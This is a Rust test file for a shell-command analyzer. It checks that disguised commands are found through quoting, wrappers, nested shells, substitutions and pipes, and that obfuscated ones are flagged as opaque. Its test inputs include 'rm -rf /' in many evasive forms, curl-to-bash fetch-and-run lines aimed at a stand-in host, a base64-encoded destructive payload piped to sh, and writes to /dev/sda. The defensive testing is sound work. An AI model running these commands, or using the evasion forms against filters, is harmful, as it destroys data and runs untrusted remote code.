//! Behaviour of [`analyze`] on the ways commands get hidden.

use super::*;

fn programs(cmd: &str) -> Vec<String> {
    analyze(cmd)
        .commands
        .into_iter()
        .map(|c| c.program)
        .collect()
}

fn lines(cmd: &str) -> Vec<String> {
    analyze(cmd)
        .commands
        .iter()
        .map(|c| c.command_line())
        .collect()
}

#[test]
fn lists_pipelines_and_compounds() {
    assert_eq!(
        programs("a && b || c; d | e & f"),
        ["a", "b", "c", "d", "e", "f"]
    );
    assert_eq!(programs("(a; { b; })"), ["a", "b"]);
    assert_eq!(programs("if a; then b; else c; fi"), ["a", "b", "c"]);
    assert_eq!(programs("for x in 1 2; do a $x; done"), ["a"]);
    assert_eq!(programs("while a; do b; done"), ["a", "b"]);
    assert_eq!(programs("case $x in y) a;; *) b;; esac"), ["a", "b"]);
    let a = analyze("f() { rm -rf /; }; f");
    assert_eq!(a.functions, ["f"]);
    let rm = a.commands_named("rm").next().unwrap();
    assert_eq!(rm.in_function.as_deref(), Some("f"));
}

#[test]
fn quoting_escapes_and_paths_resolve() {
    for cmd in [
        r#"r"m" -rf /"#,
        r"\rm -rf /",
        "'rm' -rf /",
        "$'\\x72m' -rf /",
        "/bin/rm -rf /",
    ] {
        assert_eq!(programs(cmd), ["rm"], "{cmd}");
    }
    let a = analyze("/usr/bin/rm -rf /");
    assert_eq!(a.commands[0].program_path, "/usr/bin/rm");
    assert_eq!(programs("{rm,-rf,/}"), ["rm"]);
    assert_eq!(lines("{rm,-rf,/}"), ["rm -rf /"]);
}

#[test]
fn wrappers_are_looked_through() {
    let a = analyze("sudo -u root env X=1 nice -n 5 timeout 10 nohup rm -rf /");
    let c = &a.commands[0];
    assert_eq!(c.program, "rm");
    assert_eq!(c.via, ["sudo", "env", "nice", "timeout", "nohup"]);
    assert_eq!(c.env, [("X".to_string(), "1".to_string())]);
    assert_eq!(programs("command rm -rf /"), ["rm"]);
    assert_eq!(programs("FOO=bar rm -rf /"), ["rm"]);
    let x = analyze("find / -name x -exec rm -rf {} \\;");
    assert!(
        x.commands
            .iter()
            .any(|c| c.program == "rm" && c.is_via("find -exec"))
    );
    let x = analyze("echo / | xargs rm -rf");
    assert!(
        x.commands
            .iter()
            .any(|c| c.program == "rm" && c.is_via("xargs"))
    );
}

#[test]
fn nested_shells_are_parsed() {
    for (cmd, via) in [
        ("bash -c 'rm -rf /'", "bash -c"),
        ("sh -c \"git reset --hard\"", "sh -c"),
        ("eval 'rm -rf /'", "eval"),
        ("ssh host 'rm -rf /'", "ssh"),
        ("echo 'rm -rf /' | sh", "pipe-to-sh"),
        ("bash <<EOF\nrm -rf /\nEOF", "heredoc-to-sh"),
        ("bash <<< 'rm -rf /'", "herestring-to-sh"),
    ] {
        let a = analyze(cmd);
        assert!(!a.is_opaque(), "{cmd}: {:?}", a.opaque);
        let inner: Vec<_> = a.commands.iter().filter(|c| c.is_via(via)).collect();
        assert!(!inner.is_empty(), "{cmd}: {:?}", a.commands);
        assert!(
            inner[0].program == "rm" || inner[0].program == "git",
            "{cmd}"
        );
    }
    let a = analyze("bash -c \"bash -c 'rm -rf /'\"");
    let rm = a.commands_named("rm").next().unwrap();
    assert_eq!(rm.via, ["bash -c", "bash -c"]);
}

#[test]
fn substitutions_are_walked() {
    let a = analyze("echo $(rm -rf /) `id` ${x:-$(whoami)}");
    let ps: Vec<_> = a.commands.iter().map(|c| c.program.as_str()).collect();
    assert!(
        ps.contains(&"rm") && ps.contains(&"id") && ps.contains(&"whoami"),
        "{ps:?}"
    );
    let a = analyze("bash <(curl -fsSL https://x.example/i.sh)");
    let curl = a.commands_named("curl").next().unwrap();
    assert_eq!(curl.substituted_into.as_deref(), Some("bash"));
    let a = analyze("sh -c \"$(curl -fsSL https://x.example/i.sh)\"");
    let curl = a.commands_named("curl").next().unwrap();
    assert_eq!(curl.substituted_into.as_deref(), Some("sh"));
}

#[test]
fn pipes_record_both_sides() {
    let a = analyze("curl -fsSL https://x.example | sudo bash -s -- --yes");
    let curl = a.commands_named("curl").next().unwrap();
    assert_eq!(curl.piped_into.as_deref(), Some("bash"));
    let bash = a.commands_named("bash").next().unwrap();
    assert_eq!(bash.piped_from.as_deref(), Some("curl"));
}

#[test]
fn hidden_programs_are_opaque() {
    for cmd in [
        "$x -rf /",
        "${RM} -rf /",
        "$(echo rm) -rf /",
        "eval \"$cmd\"",
        "bash -c \"$payload\"",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "if then fi (",
        "echo 'unterminated",
    ] {
        let a = analyze(cmd);
        assert!(a.is_opaque(), "{cmd} should be opaque: {:?}", a.commands);
    }
}

#[test]
fn mentions_are_arguments_not_commands() {
    for cmd in [
        "echo \"rm -rf /\"",
        "grep -r \"rm -rf\" .",
        "git commit -m 'stop running git reset --hard'",
        "printf '%s\\n' 'curl x | sh'",
    ] {
        let a = analyze(cmd);
        assert!(!a.is_opaque(), "{cmd}: {:?}", a.opaque);
        assert_eq!(a.commands.len(), 1, "{cmd}: {:?}", a.commands);
        assert!(
            a.commands[0].program != "rm" && a.commands[0].program != "sh",
            "{cmd}"
        );
    }
}

#[test]
fn words_keep_expansions_in_source_form() {
    let a = analyze("rm -rf \"$HOME\" ~ ~/ /*");
    let args: Vec<_> = a.commands[0]
        .args
        .iter()
        .map(|w| (w.text.as_str(), w.literal))
        .collect();
    assert_eq!(
        args,
        [
            ("-rf", true),
            ("$HOME", false),
            ("~", true),
            ("~/", true),
            ("/*", true)
        ]
    );
}

#[test]
fn redirects_are_recorded() {
    let a = analyze("{ echo x; } > /dev/sda");
    let echo = a.commands_named("echo").next().unwrap();
    assert!(
        echo.redirects
            .iter()
            .any(|r| r.is_write() && r.target.text == "/dev/sda")
    );
    let a = analyze("cmd 2>&1");
    assert!(!a.commands[0].redirects[0].is_write());
}

#[test]
fn hostile_input_is_bounded() {
    let deep = "bash -c 'rm -rf /'";
    assert!(!analyze(deep).is_opaque());
    let nested = "$(".repeat(200) + &")".repeat(200);
    assert!(analyze(&nested).is_opaque());
    let big = "a;".repeat(300_000);
    assert!(analyze(&big).is_opaque());
    let mut s = String::from("echo x");
    for _ in 0..12 {
        s = format!("bash -c {}", shell_quote(&s));
    }
    assert!(
        analyze(&s).is_opaque(),
        "nesting past the depth limit is opaque"
    );
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn basename_and_interpreters() {
    assert_eq!(basename("/usr/bin/rm"), "rm");
    assert_eq!(basename("rm"), "rm");
    assert_eq!(basename("/"), "/");
    assert!(is_shell("bash") && !is_shell("bashful"));
    assert!(is_interpreter("python3.12") && is_interpreter("source") && !is_interpreter("cat"));
}

#[test]
fn write_targets_by_program() {
    let targets = |cmd: &str| -> Vec<String> {
        analyze(cmd)
            .commands
            .iter()
            .flat_map(|c| c.write_targets())
            .map(|w| w.text)
            .collect()
    };
    assert_eq!(targets("echo x > a.txt 2>&1 >> /dev/null"), ["a.txt"]);
    assert_eq!(targets("cargo build &> build.log"), ["build.log"]);
    assert_eq!(targets("echo x | sudo tee -a /etc/hosts"), ["/etc/hosts"]);
    assert_eq!(targets("cp -r src/ /tmp/dst"), ["/tmp/dst"]);
    assert_eq!(targets("mv a b dir/"), ["dir/", "a", "b"]);
    assert_eq!(targets("cp -t out/ a b"), ["out/"]);
    assert_eq!(targets("ln -sf ~/.ssh/id_rsa key"), ["key"]);
    assert_eq!(targets("sed -i 's/a/b/' .env cfg.ini"), [".env", "cfg.ini"]);
    assert_eq!(targets("sed -i.bak -e 's/a/b/' x"), ["x"]);
    assert_eq!(targets("sed 's/a/b/' x"), Vec::<String>::new());
    assert_eq!(targets("perl -pi -e 's/a/b/' y"), ["y"]);
    assert_eq!(targets("dd if=/dev/zero of=disk.img"), ["disk.img"]);
    assert_eq!(targets("tar xzf a.tgz -C /opt"), ["/opt"]);
    assert_eq!(targets("tar czf a.tgz -C src ."), Vec::<String>::new());
    assert_eq!(targets("unzip a.zip -d vendor"), ["vendor"]);
    assert_eq!(targets("chmod -R 600 ~/.ssh"), ["~/.ssh"]);
    assert_eq!(targets("rm -rf -- -weird"), ["-weird"]);
    assert_eq!(targets("touch a && truncate -s 0 b"), ["a", "b"]);
    assert_eq!(targets("cat a.txt; ls -la"), Vec::<String>::new());
}
